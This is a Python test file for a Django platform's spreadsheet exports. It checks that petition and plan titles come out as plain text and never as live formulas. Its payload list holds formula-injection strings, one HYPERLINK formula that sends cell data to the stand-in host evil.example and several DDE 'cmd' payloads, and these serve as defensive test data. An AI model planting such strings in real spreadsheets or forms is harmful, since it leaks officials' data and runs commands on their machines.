"""Every .xlsx the platform writes keeps typed text as text: no live formula can reach an
official's spreadsheet from a citizen's petition title or a task title (formula injection)."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from danvan.core.audit import SYSTEM
from danvan.outputs.xlsx import Workbook
from danvan.petitions.tests.factories import make_petition
from danvan.plans.services import add_task, create_plan
from danvan.testing.fixtures import Tree, official

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&B2,"Bấm để xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_the_builder_stores_typed_text_as_text_and_formats_numbers_and_dates() -> None:
    book = Workbook()
    sheet = book.sheet("Thử: [tab]/quá dài cho tên một trang tính Excel")
    sheet.header(["Tên", "Số", "Tiền", "Ngày"])
    for payload in PAYLOADS:
        sheet.row([payload, 1234, Decimal("1234.5"), dt.date(2026, 5, 1)])
    cells = _cells(book.to_bytes())
    texts = [c for c in cells if isinstance(c.value, str) and c.value in PAYLOADS]
    assert len(texts) == len(PAYLOADS)
    assert all(c.data_type == "s" for c in texts)
    assert not [c for c in cells if c.data_type == "f"]
    numbers = {c.number_format for c in cells if isinstance(c.value, int | float)}
    assert numbers == {"#,##0", "#,##0.##"}
    assert {c.number_format for c in cells if isinstance(c.value, dt.datetime)} == {"dd/mm/yyyy"}


@pytest.mark.django_db
def test_petition_statistics_and_plan_exports_carry_no_live_formula(tree: Tree) -> None:
    officer = official("reception_officer", tree.province, username="tinh.tiepdan")
    for payload in PAYLOADS:
        make_petition(officer, tree.commune, title=payload, received_on=dt.date(2026, 3, 2))
    client = Client()
    client.force_login(officer)
    response = client.get("/petitions/statistics.xlsx?from=2026-01-01")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert {c.value for c in cells} >= set(PAYLOADS)
    assert not [c.coordinate for c in cells if c.data_type == "f"]

    plan = create_plan(
        owner=tree.province, title=PAYLOADS[0], number="5/KH-UBND", year_from=2026,
        issued_on=dt.date(2026, 1, 20), actor=SYSTEM,
    )  # fmt: skip
    for payload in PAYLOADS:
        add_task(
            plan, title=payload, lead_unit=tree.commune, due_on=dt.date(2026, 9, 30), actor=SYSTEM
        )
    planner = official("officer", tree.province, username="tinh.kehoach")
    client.force_login(planner)
    response = client.get(f"/plans/{plan.pk}/export.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert {c.value for c in cells} >= set(PAYLOADS)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
